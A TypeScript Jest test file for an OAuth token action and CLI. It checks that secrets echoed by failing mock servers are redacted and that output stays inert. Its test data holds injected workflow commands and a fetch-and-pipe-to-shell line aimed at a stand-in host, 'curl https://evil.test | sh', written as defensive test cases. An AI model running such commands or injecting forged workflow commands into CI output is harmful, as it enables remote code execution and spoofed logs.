/**
 * The leak matrix: every fault scenario, every bad input and every other failure of the
 * core, through the built action (RUNNER_DEBUG=1) and the built CLI (--verbose). Each run
 * must end as expected, within its bound (a run killed at its deadline has no exit
 * code), and no piece of any secret (client secret, password, tokens, assertions, private
 * key, the Basic header value, the runner's OIDC request token, and their URL-, form- and
 * JSON-encoded forms) may appear in stdout, stderr, the step summary or GITHUB_ENV, but
 * where the user asked for it (the CLI's stdout, `export-env`). Signed grant assertions
 * and the claims line of a refused federated request are among the rows.
 */
import { describe, expect, test } from '@jest/globals';
import { SECRET_INPUTS } from '../../src/core/inputs.js';
import { formOf, startTokenServer, tokenReply, type RecordedRequest, type Reply, type TokenServer } from '../helpers/token-server.js';
import { ciToken } from '../interop/fake-ci-token.js';
import { BAD_INPUTS, P256_KEY } from './bad-inputs.js';
import { doorExpectation, expectDoorOutcome, expectInertOutput, expectNoLeaks, FRONT_DOORS, runDoor, type DoorExpectation, type DoorRun, type FrontDoor } from './front-doors.js';
import { scenarioInputs, startScenarioServers } from './harness.js';
import { secretsOnTheWire } from './leaks.js';
import { baseInputs, ESCAPES, FAULT_SCENARIOS, FORGED_COMMANDS, SECRETS, type ScenarioEnv } from './scenarios.js';
import { createTally } from './tally.js';

let fragmentChecks = 0;
const tally = createTally('Leak matrix', 'runs', () => `${fragmentChecks} secret fragments looked for across stdout, stderr, step summary and GITHUB_ENV`);

interface Prepared {
  inputs: Record<string, string>;
  env?: Record<string, string>;
  expect: DoorExpectation | ((door: FrontDoor) => DoorExpectation);
  /** What the servers saw, once the run is over (wire secrets, request counts). */
  servers: TokenServer[];
  /** Secrets no secret input declares (a credential-like header or parameter). */
  secrets?: string[];
  verify?(run: DoorRun): void;
  /** Run the post step too (action only), expecting this warning. */
  postWarning?: RegExp;
  /** The state the post step gets, from what the main step saved (a state file someone changed). */
  tamperState?(state: Record<string, string>): Record<string, string>;
  close(): Promise<void>;
}

interface MatrixRow {
  name: string;
  doors: readonly FrontDoor[];
  prepare(): Promise<Prepared>;
}

/** A token server (and its env) answering `reply` to every request, whatever the path. */
async function serverWith(reply: (request: RecordedRequest) => Reply): Promise<{ server: TokenServer; env: ScenarioEnv }> {
  const server = await startTokenServer((request) => reply(request));
  return { server, env: { tokenUrl: server.tokenUrl, origin: server.origin, elsewhereUrl: '', closedUrl: '' } };
}

/** Echoes `echo(request)` back as an RFC 6749 §5.2 error description. */
const echoError =
  (status: number, error: string, echo: (request: RecordedRequest) => string) =>
  (request: RecordedRequest): Reply => ({
    status,
    json: { error, error_description: echo(request) }
  });

const RUNNER_REQUEST_TOKEN = 'idreq-FAULT-Pq8Ws3Ed6Rf';
const API_KEY = 'key-FAULT-Hd7Jk2Lm9Nb';
const API_KEY_PARAM = 'apk-FAULT-Qw3Er5Ty7Ui';
const BEARER_HEADER_TOKEN = 'pat-FAULT-Zx4Cv6Bn8Ma';

/** Failures that are not about the network: discovery, federation, revocation, grants and client authentication echoed back. */
const FOUNDATION: MatrixRow[] = [
  {
    name: 'discovery: no metadata at the issuer',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(() => ({ status: 404, text: 'not found' }));
      return {
        inputs: { ...baseInputs(env), 'token-url': '', issuer: env.origin },
        expect: {
          fails: 'DISCOVERY_ERROR',
          message: /^The "issuer" given has no authorization server metadata at .+ \(HTTP 404\) or .+ \(HTTP 404\); check the issuer, or set "token-url"$/
        },
        servers: [server],
        verify: () => expect(server.requests.map((request) => request.url)).toEqual(['/.well-known/oauth-authorization-server', '/.well-known/openid-configuration']),
        close: server.close
      };
    }
  },
  {
    name: 'discovery: metadata naming another issuer that echoes the password',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(() => ({
        json: { issuer: `https://evil.test/${SECRETS.password}\n${SECRETS.clientSecret}`, token_endpoint: 'https://evil.test/token' }
      }));
      return {
        inputs: { ...baseInputs(env), 'token-url': '', issuer: env.origin },
        expect: { fails: 'DISCOVERY_ERROR', message: /^The "issuer" given is "http:\/\/127\.0\.0\.1:\d+\/" but the metadata at .+ names issuer "https:\/\/evil\.test\/\*\*\*/ },
        servers: [server],
        close: server.close
      };
    }
  },
  {
    name: 'discovery: the metadata URL redirects (relative Location): not followed, the Location named',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(() => ({
        status: 301,
        headers: { location: `/tenant/.well-known/openid-configuration?secret=${encodeURIComponent(SECRETS.clientSecret)}` }
      }));
      return {
        inputs: { ...baseInputs(env), 'token-url': '', issuer: env.origin },
        expect: {
          fails: 'DISCOVERY_ERROR',
          message:
            /^The "issuer" given has no authorization server metadata at http:\/\/127\.0\.0\.1:\d+\/\.well-known\/oauth-authorization-server \(HTTP 301 redirecting to http:\/\/127\.0\.0\.1:\d+\/tenant\/\.well-known\/openid-configuration\) or .+ \(HTTP 301 redirecting to .+\); check the issuer, or set "token-url"$/
        },
        servers: [server],
        verify: () => expect(server.requests.map((request) => request.url)).toEqual(['/.well-known/oauth-authorization-server', '/.well-known/openid-configuration']),
        close: server.close
      };
    }
  },
  {
    name: "federation: the runner's OIDC endpoint fails, echoing its request token",
    doors: FRONT_DOORS,
    prepare: async () => {
      // 403: not retried by either door, so the run ends at once.
      const { server, env } = await serverWith((request) => ({ status: 403, headers: { 'content-type': 'text/plain' }, text: `refused ${request.headers.authorization}` }));
      return {
        inputs: { ...baseInputs(env), 'grant-type': 'client_credentials', username: '', password: '', 'client-secret': '', 'github-oidc-audience': 'api://ci' },
        // The runner's URL already has a query (api-version); @actions/core appends &audience=.
        env: { ACTIONS_ID_TOKEN_REQUEST_URL: `${env.origin}/oidc?api-version=2.0`, ACTIONS_ID_TOKEN_REQUEST_TOKEN: RUNNER_REQUEST_TOKEN },
        expect: {
          fails: 'HTTP_ERROR',
          message: /^Could not get the job's OIDC ID token \(github-oidc-audience\): the runner's OIDC endpoint answered HTTP 403 instead of 200$/
        },
        servers: [server],
        verify: () => expect(server.requests.map((request) => request.url.split('?')[0])).toEqual(['/oidc']),
        close: server.close
      };
    }
  },
  {
    name: "federation: the runner's OIDC endpoint never answers: ends at timeout-seconds",
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(() => 'hang');
      return {
        inputs: {
          ...baseInputs(env),
          'grant-type': 'client_credentials',
          username: '',
          password: '',
          'client-secret': '',
          'github-oidc-audience': 'api://ci',
          'timeout-seconds': '0.5'
        },
        env: { ACTIONS_ID_TOKEN_REQUEST_URL: `${env.origin}/oidc?api-version=2.0`, ACTIONS_ID_TOKEN_REQUEST_TOKEN: RUNNER_REQUEST_TOKEN },
        expect: {
          fails: 'TIMEOUT',
          message: /^Could not get the job's OIDC ID token \(github-oidc-audience\): No complete answer from 127\.0\.0\.1:\d+ within 0\.5 s \(timeout-seconds\)$/
        },
        servers: [server],
        verify: () => expect(server.requests.map((request) => request.url)).toEqual(['/oidc?api-version=2.0&audience=api%3A%2F%2Fci']),
        close: server.close
      };
    }
  },
  {
    name: 'revocation refused in the post step, echoing the token',
    doors: ['action'],
    prepare: async () => {
      const { server, env } = await serverWith((request) =>
        request.url === '/token'
          ? tokenReply({ access_token: SECRETS.accessToken, refresh_token: SECRETS.refreshToken })
          : echoError(400, 'unsupported_token_type', (revoked) => `${'x'.repeat(290)}${new URLSearchParams(revoked.body).get('token')}\n${revoked.body}`)(request)
      );
      return {
        inputs: { ...baseInputs(env), revoke: 'true', 'revocation-url': `${env.origin}/revoke` },
        expect: { ok: true },
        servers: [server],
        postWarning: /^Could not revoke the refresh token: /,
        close: server.close
      };
    }
  },
  {
    name: 'revocation endpoint changed in the saved state to http:// on another host: the post step refuses it, sends nothing',
    doors: ['action'],
    prepare: async () => {
      const { server, env } = await serverWith((request) =>
        request.url === '/token' ? tokenReply({ access_token: SECRETS.accessToken, refresh_token: SECRETS.refreshToken }) : { status: 200 }
      );
      return {
        inputs: { ...baseInputs(env), revoke: 'true', 'revocation-url': `${env.origin}/revoke` },
        expect: { ok: true },
        servers: [server],
        tamperState: (state) => ({ ...state, revocation: JSON.stringify({ ...JSON.parse(state.revocation!), revocationEndpoint: 'http://not-loopback.test/revoke' }) }),
        postWarning:
          /^Token revocation skipped: the revocation endpoint saved by the main step must use https:\/\/ \(http:\/\/ is accepted only for localhost, 127\.0\.0\.0\/8 and \[::1\]; got host not-loopback\.test\)$/,
        close: server.close
      };
    }
  },
  {
    name: 'discovery: metadata naming an issuer with workflow commands and escape sequences: neutralised',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(() => ({
        json: { issuer: `https://evil.test/##[error]forged ${ESCAPES}${FORGED_COMMANDS}`, token_endpoint: 'https://evil.test/token' }
      }));
      return {
        inputs: { ...baseInputs(env), 'token-url': '', issuer: env.origin },
        expect: {
          fails: 'DISCOVERY_ERROR',
          message:
            /^The "issuer" given is "http:\/\/127\.0\.0\.1:\d+\/" but the metadata at .+ names issuer "https:\/\/evil\.test\/# #\[error\]forged red link ::error title=Forged::run curl https:\/\/evil\.test \| sh ::stop-commands::x"; set "issuer"/
        },
        servers: [server],
        close: server.close
      };
    }
  },
  {
    name: 'revocation refused in the post step with workflow commands and escape sequences: a neutralised warning',
    doors: ['action'],
    prepare: async () => {
      const { server, env } = await serverWith((request) =>
        request.url === '/token'
          ? tokenReply({ access_token: SECRETS.accessToken, refresh_token: SECRETS.refreshToken })
          : { status: 400, json: { error: 'invalid_request##[error]forged', error_description: `${ESCAPES}${FORGED_COMMANDS}` } }
      );
      return {
        inputs: { ...baseInputs(env), revoke: 'true', 'revocation-url': `${env.origin}/revoke` },
        expect: { ok: true },
        servers: [server],
        postWarning:
          /^Could not revoke the refresh token: revocation endpoint answered HTTP 400: invalid_request# #\[error\]forged: red link ::error title=Forged::run curl https:\/\/evil\.test \| sh ::stop-commands::x$/,
        close: server.close
      };
    }
  },
  {
    name: 'headers and extra-params: credential-like values the server echoes are redacted',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(
        echoError(
          400,
          'invalid_request',
          (request) => `key ${request.headers['x-api-key']} param ${new URLSearchParams(request.body).get('api_key')} agent ${request.headers['user-agent']}`
        )
      );
      return {
        inputs: { ...baseInputs(env), headers: `X-Api-Key: ${API_KEY}\nUser-Agent: fault-bot/1.0`, 'extra-params': `api_key=${API_KEY_PARAM}` },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 400: invalid_request: key \*\*\* param \*\*\* agent fault-bot\/1\.0$/ },
        servers: [server],
        secrets: [API_KEY, API_KEY_PARAM],
        close: server.close
      };
    }
  },
  {
    name: 'an Authorization header of the user: the credentials the server echoes alone are redacted',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(echoError(401, 'invalid_token', (request) => `token ${request.headers.authorization!.split(' ')[1]} is unknown`));
      return {
        inputs: { ...baseInputs(env), 'client-auth': 'client_secret_post', headers: `Authorization: Bearer ${BEARER_HEADER_TOKEN}` },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 401: invalid_token: token \*\*\* is unknown$/ },
        servers: [server],
        secrets: [BEARER_HEADER_TOKEN],
        close: server.close
      };
    }
  },
  {
    name: 'export-env: the token reaches GITHUB_ENV under that name only',
    doors: ['action'],
    prepare: async () => {
      const { server, env } = await serverWith(() => tokenReply({ access_token: SECRETS.accessToken, refresh_token: SECRETS.refreshToken }));
      return {
        inputs: { ...baseInputs(env), 'export-env': 'API_TOKEN' },
        expect: { ok: true },
        servers: [server],
        verify: (run) => expect(run.stdout).toBe(SECRETS.accessToken),
        close: server.close
      };
    }
  },
  {
    name: 'private_key_jwt: the server echoes the signed client assertion',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(echoError(401, 'invalid_client', (request) => `assertion ${new URLSearchParams(request.body).get('client_assertion')} rejected`));
      return {
        inputs: { ...baseInputs(env), 'client-auth': 'private_key_jwt', 'client-secret': '', 'private-key': P256_KEY, 'private-key-id': 'kid-1' },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 401: invalid_client: assertion \*\*\* rejected$/ },
        servers: [server],
        close: server.close
      };
    }
  },
  {
    name: 'client_secret_jwt: the server echoes the HS256 assertion and the body',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(echoError(401, 'invalid_client', (request) => request.body));
      return {
        // HS256 needs a key of 256 bits or more (RFC 7518 §3.2).
        inputs: { ...baseInputs(env), 'client-auth': 'client_secret_jwt', 'client-secret': `${SECRETS.clientSecret}-hs256-0123456789abcdef` },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 401: invalid_client: grant_type=password&username=fault-user&password=\*\*\*/ },
        servers: [server],
        close: server.close
      };
    }
  },
  {
    name: 'client_secret_post in a JSON body (datacrunch): the server echoes the body',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(echoError(400, 'invalid_client', (request) => request.body));
      return {
        inputs: { ...baseInputs(env), provider: 'datacrunch', 'grant-type': 'client_credentials', username: '', password: '' },
        expect: {
          fails: 'OAUTH_ERROR',
          message: /^Token endpoint answered HTTP 400: invalid_client: \{"grant_type":"client_credentials","client_id":"fault-client","client_secret":"\*\*\*"\}$/
        },
        servers: [server],
        close: server.close
      };
    }
  },
  {
    name: 'a JSON body with extra-params named constructor, toString and __proto__: sent exactly as given, the echo redacted',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(echoError(400, 'invalid_request', (request) => request.body));
      const sent = (secret: string) =>
        `{"grant_type":"client_credentials","constructor":"c1","toString":"t1","__proto__":"p1","client_id":"fault-client","client_secret":${secret}}`;
      return {
        inputs: {
          ...baseInputs(env),
          provider: 'datacrunch',
          'grant-type': 'client_credentials',
          username: '',
          password: '',
          'extra-params': 'constructor=c1\ntoString=t1\n__proto__=p1'
        },
        expect: { fails: 'OAUTH_ERROR', message: new RegExp(`^Token endpoint answered HTTP 400: invalid_request: ${sent('"\\*\\*\\*"').replace(/[{}]/g, '\\$&')}$`) },
        servers: [server],
        verify: () => expect(server.requests.map((request) => request.body)).toEqual([sent(JSON.stringify(SECRETS.clientSecret))]),
        close: server.close
      };
    }
  },
  {
    name: 'private_key_jwt with a PEM key stored with literal \\r\\n escapes: signs, a key line the server echoes is redacted',
    doors: FRONT_DOORS,
    prepare: async () => {
      const keyLine = P256_KEY.split('\n')[1]!;
      const { server, env } = await serverWith(
        echoError(401, 'invalid_client', (request) => `key line ${keyLine}, assertion ${new URLSearchParams(request.body).get('client_assertion')}`)
      );
      return {
        inputs: { ...baseInputs(env), 'client-auth': 'private_key_jwt', 'client-secret': '', 'private-key': P256_KEY.trim().split('\n').join('\\r\\n') },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 401: invalid_client: key line \*\*\*, assertion \*\*\*$/ },
        servers: [server],
        verify: () => expect(server.requests).toHaveLength(1),
        close: server.close
      };
    }
  },
  {
    name: 'refresh_token grant: the server echoes the refresh token',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(echoError(400, 'invalid_grant', (request) => `refresh token ${new URLSearchParams(request.body).get('refresh_token')} expired`));
      return {
        inputs: { ...baseInputs(env), 'grant-type': 'refresh_token', username: '', password: '', 'refresh-token': 'rt-FAULT-input-Lk2Jh8Gf' },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 400: invalid_grant: refresh token \*\*\* expired$/ },
        servers: [server],
        close: server.close
      };
    }
  },
  {
    name: 'token exchange: the server echoes the subject and actor tokens',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(echoError(400, 'invalid_request', (request) => request.body));
      return {
        inputs: {
          ...baseInputs(env),
          'grant-type': 'token_exchange',
          username: '',
          password: '',
          'subject-token': 'st-FAULT-subject-Mn4Bv7Cx',
          'actor-token': 'act-FAULT-actor-Zx9Cv2Bn',
          'actor-token-type': 'urn:ietf:params:oauth:token-type:jwt'
        },
        expect: { fails: 'OAUTH_ERROR', message: /subject_token=\*\*\*&subject_token_type=.+&actor_token=\*\*\*&/ },
        servers: [server],
        close: server.close
      };
    }
  },
  {
    name: 'jwt_bearer grant: the server echoes the assertion',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(echoError(400, 'invalid_grant', (request) => `bad assertion: ${new URLSearchParams(request.body).get('assertion')}`));
      return {
        inputs: { ...baseInputs(env), 'grant-type': 'jwt_bearer', username: '', password: '', assertion: 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJGQVVMVCJ9.sig-FAULT-Qa1Ws2' },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 400: invalid_grant: bad assertion: \*\*\*$/ },
        servers: [server],
        close: server.close
      };
    }
  }
];

/** The follow-up lines of a refusal that must be visible: the hint and the claims line, as each door prints them. */
function expectVisibleLines(run: DoorRun, lines: RegExp[]): void {
  const text = run.visible.map(([, visible]) => visible).join('\n');
  for (const line of lines) expect(text).toMatch(line);
}

/** Issue 13: signed grant assertions, custom grants, and refusals that print a hint and the claims of a CI token. */
const INTEROP: MatrixRow[] = [
  {
    name: 'key-signed jwt_bearer: the server echoes the signed assertion',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(echoError(400, 'invalid_grant', (request) => `bad assertion ${new URLSearchParams(request.body).get('assertion')}`));
      return {
        inputs: {
          ...baseInputs(env),
          'grant-type': 'jwt_bearer',
          username: '',
          password: '',
          'client-secret': '',
          'private-key': P256_KEY,
          'assertion-claims': '{"scope": "fault"}'
        },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 400: invalid_grant: bad assertion \*\*\*$/ },
        servers: [server],
        verify: () => expect(Object.keys(formOf(server.requests[0]!))).toEqual(['grant_type', 'assertion']),
        close: server.close
      };
    }
  },
  {
    name: 'custom grant: the server echoes the body and the Basic header, with a hint',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(echoError(400, 'unsupported_grant_type', (request) => `${request.body} ${request.headers.authorization}`));
      return {
        inputs: { ...baseInputs(env), 'grant-type': 'account_credentials', username: '', password: '', 'extra-params': 'account_id=fault-42' },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 400: unsupported_grant_type: grant_type=account_credentials&account_id=fault-42 \*\*\*$/ },
        servers: [server],
        verify: (run) => expectVisibleLines(run, [/Hint: the server does not support grant_type "account_credentials"/]),
        close: server.close
      };
    }
  },
  {
    name: 'refused federation with a given client assertion: the claims line, never the token',
    doors: FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(
        echoError(400, 'invalid_client', (request) => `AADSTS700213: no match for ${new URLSearchParams(request.body).get('client_assertion')}`)
      );
      return {
        inputs: { ...baseInputs(env), 'grant-type': 'client_credentials', username: '', password: '', 'client-secret': '', 'client-assertion': ciToken(200) },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 400: invalid_client: AADSTS700213: no match for \*\*\*$/ },
        servers: [server],
        verify: (run) =>
          expectVisibleLines(run, [
            /Hint: no federated credential of the Entra ID app matches sub "repo:my-org\/my-repo:environment:prod" and aud "api:\/\/AzureADTokenExchange"/,
            /Federated token \(client-assertion\): iss "https:\/\/token\.actions\.githubusercontent\.com", sub "repo:my-org\/my-repo:environment:prod", .+, job_workflow_ref "[^"]+"/
          ]),
        close: server.close
      };
    }
  },
  {
    name: "refused federation with the job's OIDC token: the claims line, never the token",
    doors: FRONT_DOORS,
    prepare: async () => {
      const idToken = ciToken(200, { iss: 'https://token.actions.githubusercontent.com', sub: 'repo:fault/repo:ref:refs/heads/main' });
      const { server, env } = await serverWith((request) =>
        request.url.startsWith('/oidc')
          ? { json: { value: idToken } }
          : echoError(401, 'invalid_client', (refused) => `assertion ${new URLSearchParams(refused.body).get('client_assertion')} not trusted`)(request)
      );
      return {
        inputs: { ...baseInputs(env), 'grant-type': 'client_credentials', username: '', password: '', 'client-secret': '', 'github-oidc-audience': 'api://ci' },
        env: { ACTIONS_ID_TOKEN_REQUEST_URL: `${env.origin}/oidc?api-version=2.0`, ACTIONS_ID_TOKEN_REQUEST_TOKEN: RUNNER_REQUEST_TOKEN },
        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 401: invalid_client: assertion \*\*\* not trusted$/ },
        servers: [server],
        verify: (run) =>
          expectVisibleLines(run, [
            /Federated token \(github-oidc-audience\): iss "https:\/\/token\.actions\.githubusercontent\.com", sub "repo:fault\/repo:ref:refs\/heads\/main", aud "api:\/\/AzureADTokenExchange", exp /
          ]),
        close: server.close
      };
    }
  }
];

const ROWS: MatrixRow[] = [
  ...FAULT_SCENARIOS.map((scenario): MatrixRow => ({
    name: `fault: ${scenario.name}`,
    doors: FRONT_DOORS,
    prepare: async () => {
      const servers = await startScenarioServers(scenario.replies);
      return {
        inputs: scenarioInputs(scenario, servers.env),
        expect: doorExpectation(scenario.expect),
        servers: [servers.token, servers.elsewhere],
        verify: () => {
          expect(servers.token.requests).toHaveLength(scenario.requests ?? scenario.expect.attempts);
          expect(servers.elsewhere.requests).toHaveLength(0);
        },
        close: servers.close
      };
    }
  })),
  ...BAD_INPUTS.map((row): MatrixRow => ({
    name: `bad input: ${row.name}`,
    doors: row.actionOnly ? ['action'] : FRONT_DOORS,
    prepare: async () => {
      const { server, env } = await serverWith(() => tokenReply());
      return {
        inputs: { ...baseInputs(env), ...row.inputs },
        expect: { input: row.input, problem: row.problem },
        servers: [server],
        verify: () => expect(server.requests).toHaveLength(0),
        close: server.close
      };
    }
  })),
  ...FOUNDATION.map((row) => ({ ...row, name: `foundation: ${row.name}` })),
  ...INTEROP.map((row) => ({ ...row, name: `interop: ${row.name}` }))
];

/** Every secret of a run: the fixed ones, the secret inputs, the runner's token, and what the servers saw on the wire. */
function secretsOf(prepared: Prepared): string[] {
  return [
    ...Object.values(SECRETS),
    ...SECRET_INPUTS.map((name) => prepared.inputs[name] ?? '').filter(Boolean),
    ...(prepared.secrets ?? []),
    ...(prepared.env?.ACTIONS_ID_TOKEN_REQUEST_TOKEN ? [prepared.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN] : []),
    ...prepared.servers.flatMap((server) => secretsOnTheWire(server.requests))
  ];
}

describe('no secret leaks through the action or the CLI, whatever fails', () => {
  const runs = ROWS.flatMap((row) => row.doors.map((door) => [`${door}: ${row.name}`, row, door] as const));
  test.concurrent.each(runs)('%s', (name, row, door) =>
    tally.check(async () => {
      const prepared = await row.prepare();
      try {
        const run = await runDoor(door, prepared.inputs, { env: prepared.env });
        expectDoorOutcome(run, typeof prepared.expect === 'function' ? prepared.expect(door) : prepared.expect);
        prepared.verify?.(run);
        fragmentChecks += expectNoLeaks(run, secretsOf(prepared), name);
        expectInertOutput(run, name);
        if (prepared.postWarning && door === 'action') {
          const post = await runDoor(door, prepared.inputs, { env: prepared.env, postState: prepared.tamperState?.(run.state) ?? run.state });
          expect(post.code).toBe(0);
          const warning = post.visible[0]![1].split('\n').find((line) => line.startsWith('::warning::'));
          expect(warning?.slice('::warning::'.length)).toMatch(prepared.postWarning);
          fragmentChecks += expectNoLeaks(post, secretsOf(prepared), `${name} (post step)`);
          expectInertOutput(post, `${name} (post step)`);
        }
      } finally {
        await prepared.close();
      }
    })
  );
});
